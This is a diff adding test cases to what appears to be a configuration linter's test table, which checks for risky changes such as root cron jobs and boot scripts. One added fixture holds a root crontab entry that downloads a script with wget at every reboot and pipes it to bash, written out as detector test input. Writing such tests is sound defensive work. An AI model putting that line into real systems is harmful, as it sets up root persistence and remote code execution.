@@ -112,6 +112,11 @@ const Case kCases[] = {
     {"OrdinaryCron",
      "file \"/etc/cron.d/backup\" {\n  content = \"0 3 * * * root /usr/local/bin/backup\\n\"\n}\n",
      "", ""},
+    {"RootCrontabFetchAndRun",
+     "crontab \"root\" {\n  content = \"@reboot wget -qO- http://x/p | bash\\n\"\n}\n", "W0310",
+     "risky change: crontab[\"root\"] runs fetched or hidden code from cron (its content has "
+     "\"wget \")"},
+    {"OrdinaryCrontab", "crontab \"alice\" {\n  content = \"@daily /usr/bin/backup\\n\"\n}\n", "", ""},
     {"RcLocal", "file \"/etc/rc.local\" {\n  content = \"\"\n}\n", "W0310",
      "risky change: file[\"/etc/rc.local\"] runs commands at every boot"},
     {"BackdoorUnit",
